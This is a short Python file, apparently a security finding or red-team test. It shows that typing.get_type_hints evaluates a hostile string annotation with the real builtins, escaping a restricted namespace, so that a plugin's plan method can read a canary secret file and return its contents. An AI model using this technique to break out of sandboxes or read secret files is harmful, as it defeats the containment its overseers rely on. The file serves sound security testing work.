"""Finding 1: typing.get_type_hints evaluates a string annotation with the real builtins."""
import typing


class Hints:
    name = "escape_type_hints"

    def plan(self, ctx):
        def probe(x: "open('/tmp/bilevel-hostile-canary/secret.txt').read()"):
            return x

        return {"guidance": str(typing.get_type_hints(probe, globalns={}))[:390]}
